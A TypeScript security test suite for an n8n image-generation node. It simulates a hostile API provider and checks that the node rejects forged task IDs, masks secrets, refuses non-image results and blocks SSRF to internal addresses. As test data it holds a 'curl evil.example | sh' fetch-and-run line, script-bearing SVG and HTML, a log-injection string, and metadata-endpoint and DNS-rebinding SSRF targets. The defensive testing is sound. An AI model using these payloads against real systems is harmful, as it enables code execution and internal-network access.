/**
 * What a hostile provider sends, checked where it enters, in simulated time: task IDs that
 * would forge log lines or slip past the README's limit, result files that are not images, and
 * result hosts whose names point inside. The API is reached at a public https address (an alias
 * the fake stands in for), so the node applies the rules a real deployment gets. The stand-in
 * network (test/tools/n8nContext.ts) resolves names as a DNS server chosen by the attacker would,
 * and records the address every connection went to.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';

import { API, CDN, cdn, fake, generate, run } from './hostileProvider';
import type { ContextOptions } from '../tools/n8nContext';
import { AttackTable } from './table';

const table = new AttackTable('Task IDs, result types and result hosts, at the source');
afterAll(() => table.print());

const TASK = 'task-unified-1757156493-abcdefgh';

/** A completed task body whose result URLs are chosen by the attacker. */
function completedWith(results: string[]) {
	return {
		route: 'status' as const,
		status: 200,
		body: { id: TASK, status: 'completed', progress: 100, results },
		times: Infinity,
	};
}

/** Control characters other than a plain space: what would split or hide a log line. */
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/;

describe('task IDs are checked where they enter', () => {
	const FORGED = '../../x\nGPT Image: EvoLink task forged submitted (execution 1, node "Admin")';

	it('a submit answer whose task ID carries a line break is a provider error, logged nowhere', async () => {
		fake.inject({ route: 'submit', status: 200, body: { id: FORGED, status: 'pending' } });
		const { out, fn } = await run([generate({ completion: 'submit' })]);
		const forgedLines = fn.logs
			.join('\n')
			.split('\n')
			.filter((line) => line.startsWith('GPT Image: EvoLink task forged'));
		const stored = JSON.stringify(fn.metadata).includes('../../x');
		const inOutput = out[0].json.taskId === FORGED;
		table.add(
			'Submit answer with task ID `../../x\\n<a forged log line>`',
			"accepted: 1 forged line in n8n's log, the ID in custom data and in taskId",
			forgedLines.length === 0 && !stored && !inOutput
				? 'provider error; the ID is in no log line, custom data or taskId'
				: `${forgedLines.length} forged log line(s); custom data ${stored ? 'has' : 'does not have'} it; taskId ${inOutput ? 'is' : 'is not'} it`,
		);
		expect(out[0].json.error).toMatch(/answered with a task ID that is not an EvoLink task ID/);
		expect(out[0].json.taskId).toBeUndefined();
		expect(forgedLines).toEqual([]);
		expect(fn.logs.filter((line) => CONTROL.test(line))).toEqual([]);
		expect(stored).toBe(false);
	});

	it('a status answer whose task ID carries control characters is a provider error', async () => {
		const submitted = await run([generate({ completion: 'submit' })]);
		const taskId = String(submitted.out[0].json.taskId);
		fake.inject({
			route: 'status',
			status: 200,
			body: { id: `${taskId}\r\n\u001b[2K`, status: 'processing', progress: 5 },
			times: Infinity,
		});
		const { out } = await run([
			{ operation: 'waitForTask', taskId, options: { output: 'url', maxWaitSeconds: 30 } },
		]);
		const shown = JSON.stringify(out[0].json);
		table.add(
			'Status answer with task ID `<id>\\r\\n\\u001b[2K`',
			'accepted: the item polled that task until Max Wait (30 s)',
			CONTROL.test(String(out[0].json.taskId ?? '')) || /\\u001b/.test(shown)
				? 'accepted'
				: `refused: ${String(out[0].json.error).slice(0, 60)}`,
		);
		expect(out[0].json.error).toMatch(/task ID that is not an EvoLink task ID/);
		expect(shown).not.toMatch(/\\u001b|\\r\\n/);
	});

	it('a 77-character task ID is refused by field name, before any request', async () => {
		const long = `task-unified-${'a'.repeat(64)}`;
		const { out } = await run([
			{ operation: 'waitForTask', taskId: long, options: { output: 'url', maxWaitSeconds: 5 } },
		]);
		table.add(
			'Wait for Task with a 77-character EvoLink task ID (README: at most 64)',
			'accepted: 1 request to the provider',
			`${fake.counts.total} requests; ${String(out[0].json.error).slice(0, 50)}`,
		);
		expect(long).toHaveLength(77);
		expect(out[0].json.error).toMatch(/^Task ID: ".*" is not an EvoLink task ID/);
		expect(fake.counts.total).toBe(0);
	});

	it('a submit answer with a 77-character task ID is a provider error', async () => {
		const long = `task-unified-${'b'.repeat(64)}`;
		fake.inject({ route: 'submit', status: 200, body: { id: long, status: 'pending' } });
		const { out } = await run([generate({ completion: 'submit' })]);
		table.add(
			'Submit answer with a 77-character task ID',
			'accepted as the task ID',
			out[0].json.taskId === long ? 'accepted' : 'provider error, the ID is not used',
		);
		expect(out[0].json.error).toMatch(/task ID that is not an EvoLink task ID/);
		expect(out[0].json.description).toMatch(/may have created \(and billed\) a task/);
	});
});

describe('provider text is masked before it is shown', () => {
	it('signed-URL tokens of a result URL never appear in an error', async () => {
		const signed = `${CDN}/r.png?X-Amz-Signature=9f8e7d6c5b4a39281706f5e4d3c2b1a0&sig=zz11yy22&token=tok-secret-1&X-Amz-Credential=AKIAEXAMPLE%2F20260101`;
		fake.inject(completedWith([signed]));
		cdn.inject({ route: 'any', status: 403, body: { error: 'expired' }, times: Infinity });
		const { out } = await run([generate({ options: { output: 'binary', maxWaitSeconds: 60 } })]);
		const shown = JSON.stringify(out[0].json);
		const leaked = [
			'9f8e7d6c5b4a39281706f5e4d3c2b1a0',
			'AKIAEXAMPLE',
			'zz11yy22',
			'tok-secret-1',
		].filter((token) => shown.includes(token));
		table.add(
			'A result URL with X-Amz-Signature, sig and token answers 403',
			'3 of 4 tokens in the item error (its URL cut at 120 characters)',
			leaked.length > 0 ? `shown: ${leaked.length} of 4 tokens` : 'tokens masked (***)',
		);
		expect(out[0].json.error).toMatch(/answered 403/);
		expect(leaked).toEqual([]);
		expect(shown).toMatch(/X-Amz-Signature=\*\*\*/);
	});

	it('a status answer whose unknown status is the API key never shows the key', async () => {
		const key = fake.apiKey;
		fake.inject({
			route: 'status',
			status: 200,
			body: { id: TASK, status: `Stolen-${key}`, progress: 5 },
			times: Infinity,
		});
		const { out } = await run([
			{ operation: 'waitForTask', taskId: TASK, options: { output: 'url', maxWaitSeconds: 30 } },
		]);
		const shown = JSON.stringify(out[0].json).toLowerCase();
		table.add(
			'A status answer whose status is the API key (the schema error repeats what it got)',
			'the key (lower-cased) in the item error',
			shown.includes(key.toLowerCase()) ? 'shown' : 'masked',
		);
		expect(out[0].json.error).toMatch(/Unexpected task status response/);
		expect(shown).not.toContain(key.toLowerCase());
	});
});

describe('bytes decide the type of a result', () => {
	const cases: Array<[string, string, string | Buffer, string]> = [
		[
			'image/svg+xml with a <script>',
			'image/svg+xml',
			'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/rest/me")</script></svg>',
			'stored as <taskId>-1.svg+xml, image/svg+xml',
		],
		[
			'HTML served as image/html',
			'image/html',
			'<!doctype html><html><body><script>alert(1)</script></body></html>',
			'stored as <taskId>-1.html, image/html',
		],
		[
			'text served as image/png',
			'image/png',
			'#!/bin/sh\ncurl evil.example | sh\n',
			'stored as <taskId>-1.png, image/png',
		],
	];

	it.each(cases)('a result that is %s is never stored', async (name, type, bytes, before) => {
		fake.inject(completedWith([`${CDN}/result/1`]));
		cdn.inject({
			route: 'any',
			status: 200,
			body: bytes.toString(),
			headers: { 'content-type': type },
			times: Infinity,
		});
		const { out } = await run([generate({ options: { output: 'binary', maxWaitSeconds: 60 } })]);
		const stored = out[0].binary?.data;
		table.add(
			`Result ${name}`,
			before,
			stored ? `stored as ${stored.fileName}, ${stored.mimeType}` : 'item fails, nothing stored',
		);
		expect(stored).toBeUndefined();
		expect(out[0].json.error).toMatch(/is not a PNG, JPEG, WebP or GIF image/);
	});

	it('a GIF labelled image/jpeg is stored as the GIF it is', async () => {
		fake.inject(completedWith([`${CDN}/result/2.jpg`]));
		cdn.inject({
			route: 'any',
			status: 200,
			// A 1x1 GIF header (ASCII only, so the fake's text answer keeps every byte).
			body: 'GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;',
			headers: { 'content-type': 'image/jpeg' },
			times: Infinity,
		});
		const { out } = await run([generate({ options: { output: 'binary', maxWaitSeconds: 60 } })]);
		const stored = out[0].binary?.data;
		table.add(
			'A GIF served as image/jpeg',
			'stored as <taskId>-1.jpg, image/jpeg',
			stored ? `stored as …${stored.fileName?.slice(-6)}, ${stored.mimeType}` : 'not stored',
		);
		expect(stored?.mimeType).toBe('image/gif');
		expect(stored?.fileName).toMatch(/-1\.gif$/);
	});
});

describe('result hosts are resolved, then checked', () => {
	/** Runs a generate whose result URL (or redirect) the test chose; returns where it connected. */
	async function fetchResult(url: string, extra: Partial<ContextOptions> = {}) {
		fake.inject(completedWith([url]));
		const { out, fn } = await run(
			[generate({ options: { output: 'binary', maxWaitSeconds: 60 } })],
			extra,
		);
		return { out, connected: fn.stats.connected };
	}

	const internal = (addresses: string[]) => addresses.filter((a) => !a.startsWith('93.184.215.'));

	/** "5 connections to 127.0.0.1", or what the test expects when there were none. */
	function connections(addresses: string[], none: string): string {
		if (addresses.length === 0) return none;
		const counts = new Map<string, number>();
		addresses.forEach((a) => counts.set(a, (counts.get(a) ?? 0) + 1));
		return [...counts]
			.map(([address, n]) => `${n} connection${n === 1 ? '' : 's'} to ${address}`)
			.join(', ');
	}

	it('a host name that resolves to 127.0.0.1 is refused before any connection', async () => {
		const { out, connected } = await fetchResult('https://img.attacker.test/x.png', {
			http: { dns: { 'img.attacker.test': ['127.0.0.1'] } },
		});
		table.add(
			'Result URL https://<a name resolving to 127.0.0.1>/',
			'5 connections to 127.0.0.1',
			connections(internal(connected), 'refused, no connection'),
		);
		expect(out[0].json.error).toMatch(/img\.attacker\.test resolves to 127\.0\.0\.1/);
		expect(connected).toEqual([]);
	});

	it('a name with a public and a link-local address is refused', async () => {
		const { out, connected } = await fetchResult('https://img.attacker.test/x.png', {
			http: { dns: { 'img.attacker.test': ['169.254.169.254', '93.184.215.99'] } },
		});
		table.add(
			'Result host resolving to 169.254.169.254 and a public address',
			'5 connections to 169.254.169.254',
			connections(internal(connected), 'refused, no connection'),
		);
		expect(out[0].json.error).toMatch(/resolves to 169\.254\.169\.254/);
		expect(connected).toEqual([]);
	});

	it('a name resolving to an IPv4-mapped loopback address is refused', async () => {
		const { out, connected } = await fetchResult('https://img.attacker.test/x.png', {
			http: { dns: { 'img.attacker.test': ['::ffff:127.0.0.1'] } },
		});
		table.add(
			'Result host resolving to ::ffff:127.0.0.1',
			'5 connections to ::ffff:127.0.0.1',
			connections(internal(connected), 'refused, no connection'),
		);
		expect(out[0].json.error).toMatch(/local or private address/);
		expect(connected).toEqual([]);
	});

	it('DNS rebinding: the connection goes to the address that was checked', async () => {
		const REBIND = 'https://img.rebind.test';
		const { out, connected } = await fetchResult(`${REBIND}/samples/a.png`, {
			aliases: [
				{ origin: API, fake },
				{ origin: CDN, fake: cdn },
				{ origin: REBIND, fake: cdn },
			],
			// Public for the first lookup, loopback for every later one.
			http: { dns: { 'img.rebind.test': (n) => (n === 0 ? ['93.184.215.12'] : ['127.0.0.1']) } },
		});
		table.add(
			'DNS rebinding: public when checked, 127.0.0.1 afterwards',
			'no check: the name was only resolved to connect (rows 11-13)',
			connections(internal(connected), `connected only to the checked ${connected[0]}`),
		);
		expect(connected).toEqual(['93.184.215.12']);
		expect(out[0].binary?.data?.mimeType).toBe('image/png');
	});

	it('a redirect hop to a name that resolves inside is refused at that hop', async () => {
		cdn.inject({
			route: 'any',
			status: 302,
			headers: { location: 'https://meta.attacker.test/latest/meta-data' },
			body: {},
			times: Infinity,
		});
		const { out, connected } = await fetchResult(`${CDN}/samples/photo.png`, {
			http: { dns: { 'meta.attacker.test': ['10.0.0.5'] } },
		});
		table.add(
			'302 from the result host to a name resolving to 10.0.0.5',
			'5 connections to 10.0.0.5',
			connections(internal(connected), 'hop refused, no connection'),
		);
		expect(out[0].json.error).toMatch(/meta\.attacker\.test resolves to 10\.0\.0\.5/);
		expect(internal(connected)).toEqual([]);
	});

	const spellings: Array<[string, Record<string, string[]>]> = [
		['https://localhost./x.png', { 'localhost.': ['127.0.0.1'] }],
		['https://LOCALHOST./x.png', { 'localhost.': ['127.0.0.1'] }],
		['https://api.localhost./x.png', { 'api.localhost.': ['127.0.0.1'] }],
		['https://[::127.0.0.1]/x.png', {}],
		['https://[64:ff9b::127.0.0.1]/x.png', {}],
		['https://[fec0::1]/x.png', {}],
		['https://metadata/computeMetadata/v1/', { metadata: ['169.254.169.254'] }],
	];

	/** Where each spelling connected before (the stand-in's resolver answers like systemd-resolved). */
	const BEFORE: Record<string, string> = {
		'https://localhost./x.png': '127.0.0.1',
		'https://LOCALHOST./x.png': '127.0.0.1',
		'https://api.localhost./x.png': '127.0.0.1',
		'https://[::127.0.0.1]/x.png': '::7f00:1',
		'https://[64:ff9b::127.0.0.1]/x.png': '64:ff9b::7f00:1',
		'https://[fec0::1]/x.png': 'fec0::1',
		'https://metadata/computeMetadata/v1/': '169.254.169.254',
	};

	it.each(spellings)('%s is refused by its spelling, before any lookup', async (url, dns) => {
		const { out, connected } = await fetchResult(url, { http: { dns } });
		table.add(
			`Result URL ${url}`,
			`passed the URL rules: 5 connections to ${BEFORE[url]}`,
			connections(connected, 'refused by name, no lookup'),
		);
		expect(out[0].json.error).toMatch(/local or private address|not a public host name/);
		expect(connected).toEqual([]);
	});

	it("on an n8n that cannot resolve for the node, a host name from the provider's own answer is fetched by name (its spelling checked)", async () => {
		const { out, connected } = await fetchResult(`${CDN}/samples/photo.png`, {
			noEgressFilter: true,
		});
		table.add(
			"n8n before 2.28 (or SSRF protection off before 2.38): the provider's own result host by name",
			'fetched',
			out[0].json.mimeType === 'image/png'
				? 'fetched by name (README: turn on n8n SSRF protection to check names)'
				: String(out[0].json.error),
		);
		expect(out[0].json.mimeType).toBe('image/png');
		expect(connected.length).toBeGreaterThan(0);
	});
});

describe('one HTTP door', () => {
	const NODES_DIR = path.join(__dirname, '..', '..', 'nodes');
	const sources = (dir: string): string[] =>
		fs.readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
			const file = path.join(dir, entry.name);
			if (entry.isDirectory()) return sources(file);
			return file.endsWith('.ts') ? [file] : [];
		});
	/** The code of a file without its comments (a comment may name a helper). */
	const code = (file: string) =>
		fs
			.readFileSync(file, 'utf8')
			.replace(/\/\*[\s\S]*?\*\//g, '')
			.replace(/(^|[^:])\/\/.*$/gm, '$1');
	const relative = (file: string) => path.relative(NODES_DIR, file);

	it("only the transport calls n8n's HTTP helpers, and the HTTP modules import no circle", () => {
		const files = sources(NODES_DIR);
		const callers = files
			.filter((f) =>
				/helpers\.(httpRequest|httpRequestWithAuthentication|request)(\.call)?\(|\brequest\(\{/.test(
					code(f),
				),
			)
			.map(relative);
		const imports = new Map(
			files.map((f) => [
				f,
				[...code(f).matchAll(/from '(\.[^']+)'/g)]
					.map((m) => path.join(path.dirname(f), `${m[1]}.ts`))
					.filter((target) => fs.existsSync(target)),
			]),
		);
		const http = [
			'transport',
			'exchange',
			'download',
			'credentialTest',
			'taskClient',
			'egress',
			'mask',
			'gate',
		]
			.map((name) => path.join(NODES_DIR, 'shared', `${name}.ts`))
			.filter((f) => fs.existsSync(f));
		const cycles: string[] = [];
		const visit = (file: string, trail: string[]) => {
			for (const next of imports.get(file) ?? []) {
				if (next === trail[0]) cycles.push([...trail, next].map(relative).join(' -> '));
				else if (!trail.includes(next) && http.includes(next)) visit(next, [...trail, next]);
			}
		};
		http.forEach((file) => visit(file, [file]));
		table.add(
			"Code outside the HTTP door calling n8n's HTTP helpers; import circles between HTTP modules",
			'3 modules call them (credentialTest, download, transport); 9 import circles among transport, download and taskClient',
			`${callers.length} module(s) call them (${callers.join(', ')}); ${cycles.length === 0 ? 'no circle' : cycles.join('; ')}`,
		);
		expect(callers).toEqual(['shared/transport.ts']);
		expect(cycles).toEqual([]);
	});
});
